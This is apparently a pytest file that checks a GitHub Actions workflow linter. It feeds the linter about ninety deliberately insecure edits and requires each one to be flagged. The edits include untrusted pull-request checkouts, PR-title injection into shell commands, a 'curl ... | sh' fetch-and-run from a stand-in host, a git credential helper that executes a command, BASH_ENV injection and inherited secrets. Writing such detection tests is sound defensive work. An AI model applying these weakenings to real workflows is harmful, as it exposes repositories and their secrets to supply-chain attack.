"""The project's own check: it passes our workflows and refuses every one of their weakenings."""

from pathlib import Path

import pytest

from lianbing.cli import main
from lianbing.workflows.judge import CHECKS, FOLDER, judge, read_workflows

ROOT = Path(__file__).parents[2]
OURS = read_workflows(ROOT)

GATE, RECEIPTS, COMMENT = "gate", "receipts", "comment"
MAIN_REF = "          ref: main\n"
VERDICT = "        id: verdict\n"
JUDGING = ".venv/bin/python -m lianbing gate --repo ."
PINNED = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
FETCH = '        run: git fetch --quiet --no-tags --no-recurse-submodules origin "+$HEAD_SHA:refs/lianbing/head"\n'
ENVIRONMENT = "        run: make environment\n"
STEP = "      - name: Facts of the platform\n"

WEAKENINGS: dict[str, tuple[str, str, str, str]] = {
    # what: (code, workflow, text, what it becomes)
    "head checkout by commit": (
        "W06", GATE, MAIN_REF, "          ref: ${{ github.event.pull_request.head.sha }}\n"),
    "head checkout by ref": ("W06", GATE, MAIN_REF, "          ref: refs/pull/7/merge\n"),
    "checkout of whatever the event means": ("W06", GATE, MAIN_REF, ""),
    "checkout of a fork": ("W06", GATE, MAIN_REF, MAIN_REF + "          repository: stranger/campaign\n"),
    "the action's own guard off": ("W06", GATE, MAIN_REF, MAIN_REF + "          allow-unsafe-pr-checkout: true\n"),
    "head checkout in the shell": ("W06", GATE, FETCH, FETCH.replace("run: git fetch", "run: git checkout FETCH_HEAD; git fetch")),
    "head checkout by the platform's tool": ("W06", GATE, ENVIRONMENT, "        run: gh pr checkout 7\n"),
    "a file of the head": ("W06", GATE, ENVIRONMENT, "        run: git show refs/lianbing/head:Makefile\n"),
    "receipts checks out the head": ("W06", RECEIPTS, MAIN_REF, "          ref: refs/pull/7/head\n"),
    "receipts fetches the head": ("W13", RECEIPTS, ENVIRONMENT, FETCH),
    "pull_request trigger": ("W03", GATE, "pull_request_target:", "pull_request:"),
    "pull_request trigger besides": ("W03", GATE, "permissions: {}\n", "  pull_request:\n\npermissions: {}\n"),
    "comment starts on any run": ("W03", COMMENT, "  workflow_call:", "  workflow_run: {workflows: [gate], types: [completed]}"),
    "receipts start on comments": ("W03", RECEIPTS, "  workflow_call:", "  issue_comment:"),
    "code with the base's rights": ("W03", "code", "  pull_request:", "  pull_request_target:"),
    "publishing by hand": ("W03", "publish", "  push:\n", "  workflow_dispatch:\n  push:\n"),
    "paths": ("W04", GATE, "    branches: [main]\n", "    branches: [main]\n    paths: [submissions/**]\n"),
    "paths-ignore": ("W04", GATE, "    branches: [main]\n", "    branches: [main]\n    paths-ignore: [docs/**]\n"),
    "branches-ignore": ("W04", GATE, "    branches: [main]\n", "    branches-ignore: [receipts]\n"),
    "any base": ("W04", GATE, "    branches: [main]\n", ""),
    "pushes unjudged": ("W04", GATE, "[opened, synchronize, reopened]", "[opened, reopened]"),
    "publishing from anywhere": ("W04", "publish", "    branches: [main]\n", "    branches: ['**']\n"),
    "if on the required job": ("W05", GATE, "    name: gate\n", "    name: gate\n    if: github.actor != 'demo-office'\n"),
    "required job after another": ("W05", GATE, "    name: gate\n", "    name: gate\n    needs: receipts\n"),
    "required job renamed": ("W05", GATE, "    name: gate\n", "    name: gate of ${{ github.run_id }}\n"),
    "required job in a matrix": ("W05", GATE, "    name: gate\n", "    name: gate\n    strategy: {matrix: {a: []}}\n"),
    "interpolated title": (
        "W07", GATE, STEP, '      - run: echo "${{ github.event.pull_request.title }}"\n' + STEP),
    "interpolated branch": ("W07", GATE, JUDGING, JUDGING + " --actor ${{ github.head_ref }}"),
    "interpolated title, spaced": ("W07", RECEIPTS, "received=$(", "received=$(echo ${{github . event['x']}}; "),
    "cache action": ("W08", GATE, STEP, f"      - uses: actions/cache@{'a' * 40}\n{STEP}"),
    "cache of pip": ("W08", GATE, '          python-version: "3.11"\n', '          python-version: "3.11"\n          cache: pip\n'),
    "cache mode": ("W08", GATE, "cache-mode: none", "cache-mode: write"),
    "cache mode left out": ("W08", RECEIPTS, "cache-mode: none\n", ""),
    "cache mode of a job": ("W08", GATE, "    name: gate\n", "    name: gate\n    cache-mode: write\n"),
    "write permission of the gate": ("W09", GATE, "      contents: read # main's code, and", "      contents: write #"),
    "write permission above": ("W09", GATE, "permissions: {}", "permissions: write-all"),
    "permissions left out": ("W09", COMMENT, "permissions: {}\n", ""),
    "permissions left out of the job": ("W09", "code", "    permissions:\n      contents: read # the code\n", ""),
    "the comment writes to the repository": (
        "W09", COMMENT, "      contents: read # main's code", "      contents: write # main's code"),
    "the build signs": ("W09", "publish", "      contents: read #", "      id-token: write\n      contents: read #"),
    "tag instead of commit": ("W10", GATE, PINNED, "actions/checkout@v7"),
    "branch instead of commit": ("W10", "publish", PINNED, "actions/checkout@main"),
    "short commit": ("W10", GATE, PINNED, "actions/checkout@3d3c42e"),
    "an action of the working tree": ("W10", GATE, STEP, f"      - uses: ./.github/actions/judge\n{STEP}"),
    "a workflow from elsewhere": (
        "W10", GATE, "$/.github/workflows/receipts.yml", "stranger/x/.github/workflows/receipts.yml@main"),
    "an unknown action": ("W11", GATE, STEP, f"      - uses: stranger/helper@{'a' * 40}\n{STEP}"),
    "continue-on-error on the verdict": ("W12", GATE, VERDICT, VERDICT + "        continue-on-error: true\n"),
    "continue-on-error before it": ("W12", GATE, ENVIRONMENT, ENVIRONMENT + "        continue-on-error: true\n"),
    "continue-on-error on the job": ("W12", GATE, "    name: gate\n", "    name: gate\n    continue-on-error: true\n"),
    "verdict only sometimes": ("W12", GATE, VERDICT, VERDICT + "        if: github.actor != 'demo-office'\n"),
    "|| true": ("W12", GATE, "--format github\n", "--format github || true\n"),
    "set +e": ("W12", GATE, f"          {JUDGING}", f"          set +e\n          {JUDGING}"),
    "a command after the verdict": ("W12", GATE, "--format github\n", "--format github\n          make environment\n"),
    "verdict in the background": ("W12", GATE, "--format github\n", "--format github &\n"),
    "another shell": ("W12", GATE, VERDICT, VERDICT + "        shell: sh {0}\n"),
    "another shell for all": ("W12", GATE, "    shell: bash", "    shell: bash {0}"),
    "no verdict": ("W02", GATE, JUDGING, ".venv/bin/python -m lianbing check"),
    "no receipts": ("W02", GATE, "  receipts:\n", "  receipt:\n"),
    "a command of its own": ("W13", GATE, ENVIRONMENT, "        run: python tools/prepare.py\n"),
    "a line continued": ("W13", GATE, JUDGING, JUDGING.replace(" --repo .", " \\\n            --repo .")),
    "an unquoted variable": ("W13", GATE, '--actor "$ACTOR"', "--actor $ACTOR"),
    "install without hashes": ("W14", GATE, ENVIRONMENT, "        run: .venv/bin/python -m pip install -r requirements.in\n"),
    "install of the head": ("W14", GATE, STEP, f"      - run: pip install git+https://x.example/y@refs/lianbing/head\n{STEP}"),
    "fetched and run": ("W14", "nightly", "run: make site", "run: curl https://x.example/i.sh | sh"),
    "credentials left on disk": ("W15", GATE, "          persist-credentials: false\n", ""),
    "credentials kept": ("W15", RECEIPTS, "persist-credentials: false", "persist-credentials: true"),
    "self-hosted runner": ("W16", GATE, "runs-on: ubuntu-24.04", "runs-on: self-hosted"),
    "runners by label": ("W16", RECEIPTS, "runs-on: ubuntu-24.04", "runs-on: [ubuntu-24.04, big]"),
    "a runner that moves": ("W16", "publish", "runs-on: ubuntu-24.04", "runs-on: ubuntu-latest"),
    "receipts in a queue": ("W17", RECEIPTS, "cache-mode: none\n", "cache-mode: none\n\nconcurrency: receipts\n"),
    "the receipts' job in a queue": ("W17", GATE, "    name: receipts\n", "    name: receipts\n    concurrency: receipts\n"),
    "gate in a queue": ("W17", GATE, "  group: gate-${{ github.run_id }}", "  group: gate"),
    "gate cancelled": ("W17", GATE, "cancel-in-progress: false", "cancel-in-progress: true"),
    "no time limit": ("W18", GATE, "    timeout-minutes: 30\n", ""),
    "no time limit for the impact": ("W18", GATE, "        timeout-minutes: 10\n", ""),
    "a secret": ("W19", GATE, "GITHUB_TOKEN: ${{ github.token }}", "GITHUB_TOKEN: ${{ secrets.PAT }}"),
    "all secrets": ("W19", GATE, "    uses: $/.github/workflows/c", "    secrets: inherit\n    uses: $/.github/workflows/c"),
    "the title as an environment": (
        "W20", GATE, "ACTOR: ${{ github.event.pull_request.user.login }}", "ACTOR: ${{ github.event.pull_request.title }}"),
    "the head named in receipts": (
        "W20", RECEIPTS, "GITHUB_TOKEN: ${{ github.token }}", "HEAD_SHA: ${{ github.event.pull_request.head.sha }}"),
    "the token for an action": ("W20", GATE, "          name: gate\n", "          name: ${{ github.token }}\n"),
    "a variable that the shell obeys": ("W21", GATE, "          ACTOR:", "          BASH_ENV: x\n          ACTOR:"),
    "a variable for every step": ("W21", GATE, "permissions: {}\n", "env: {PYTHONPATH: x}\n\npermissions: {}\n"),
    "git told to run something": ("W12", RECEIPTS, "credential.helper '!f() {", "credential.helper '!f() { touch x;"),
    "git's settings": ("W21", GATE, "          ACTOR:", '          GIT_CONFIG_COUNT: "1"\n          ACTOR:'),
    "a container": ("W22", RECEIPTS, "    name: receipts\n", "    name: receipts\n    container: stranger/x\n"),
    "a folder of its own": ("W22", GATE, VERDICT, VERDICT + "        working-directory: /tmp\n"),
    "a report of another run": ("W23", RECEIPTS, "          path: build/gate\n", "          path: build/gate\n          run-id: 5\n"),
    "published unverified": ("W24", "publish", "        run: .venv/bin/python -m lianbing revalidate --repo .\n", ENVIRONMENT),
    "deployed unattested": ("W24", "publish", "    needs: attest\n", "    needs: build\n"),
    "deployed anyway": ("W24", "publish", "    needs: attest\n", "    needs: attest\n    if: always()\n"),
    "receipt only if accepted": (
        "W24", GATE, "    if: always()\n    permissions:\n      contents: w", "    permissions:\n      contents: w"),
    "half the history": ("W24", "nightly", " --whole", ""),
    "a key twice": ("W01", GATE, "permissions: {}\n", "permissions: {}\n\npermissions: write-all\n"),
    "an anchor": ("W01", GATE, "    name: gate\n", "    name: &n gate\n"),
    "a merge key": ("W01", GATE, "permissions: {}\n", "<<: {permissions: write-all}\n"),
    "not YAML": ("W01", GATE, "permissions: {}", "permissions: {"),
}  # fmt: skip


def weakened(workflow: str, text: str, other: str) -> dict[str, str]:
    path = f"{FOLDER}/{workflow}.yml"
    assert text in OURS[path], f"{workflow} no longer has {text!r}"
    return OURS | {path: OURS[path].replace(text, other, 1)}


def test_our_workflows_pass() -> None:
    assert judge(OURS) == ()


@pytest.mark.parametrize("weakening", WEAKENINGS)
def test_every_weakening_is_refused_at_its_line(weakening: str) -> None:
    code, workflow, text, other = WEAKENINGS[weakening]
    found = [f for f in judge(weakened(workflow, text, other)) if f.path == f"{FOLDER}/{workflow}.yml"]
    assert code in {f.code for f in found}, found
    before = OURS[f"{FOLDER}/{workflow}.yml"].split(text)[0].count("\n")
    if code not in ("W02", "W24"):
        near = [f.line for f in found if f.code == code]
        assert any(abs(line - before) <= 12 for line in near) or code in ("W03", "W04", "W08", "W09"), near


def test_at_least_twelve_ways_with_every_code() -> None:
    assert len(WEAKENINGS) >= 12
    assert {code for code, *_ in WEAKENINGS.values()} == {f"W{n:02}" for n in range(1, 25)}


@pytest.mark.parametrize("name", ["gate", "comment", "receipts", "code", "publish", "nightly"])
def test_a_missing_workflow_is_a_fault(name: str) -> None:
    path = f"{FOLDER}/{name}.yml"
    found = judge({key: text for key, text in OURS.items() if key != path})
    assert [(f.code, f.path) for f in found] == [("W02", path)]


@pytest.mark.parametrize(
    ("trigger", "codes"),
    [
        ("push", set()),
        ("workflow_run", {"W03"}),
        ("pull_request_target", {"W03"}),
        ("issue_comment", {"W03"}),
    ],
)
@pytest.mark.parametrize("ending", ["yml", "yaml"])
def test_a_further_workflow_is_held_to_the_same_rules(trigger: str, codes: set[str], ending: str) -> None:
    text = (
        f"name: more\non: {trigger}\npermissions: {{}}\ncache-mode: none\ndefaults: {{run: {{shell: bash}}}}\n"
        "jobs:\n  a:\n    name: a\n    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n    permissions: {contents: read}\n"
        "    steps:\n      - name: b\n        run: make environment\n"
    )
    assert {f.code for f in judge(OURS | {f"{FOLDER}/more.{ending}": text})} == codes


def test_lines_are_those_of_the_file() -> None:
    path = f"{FOLDER}/gate.yml"
    (found,) = judge(weakened(GATE, "--format github\n", "--format github || true\n"))
    assert "|| true" not in OURS[path]
    assert "lianbing gate --repo" in OURS[path].splitlines()[found.line - 1]


def test_every_check_says_its_rule() -> None:
    assert all(check.__doc__ and check.__doc__.rstrip().endswith(".") for check in CHECKS)


def test_the_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["workflows", "--root", str(ROOT)]) == 0
    folder = tmp_path / FOLDER
    folder.mkdir(parents=True)
    for path, text in OURS.items():
        (tmp_path / path).write_text(text.replace("@3d3c42e5", "@v"), "utf-8")
    capsys.readouterr()
    assert main(["workflows", "--root", str(tmp_path), "--format", "github"]) == 1
    assert "::error file=.github/workflows/" in capsys.readouterr().out
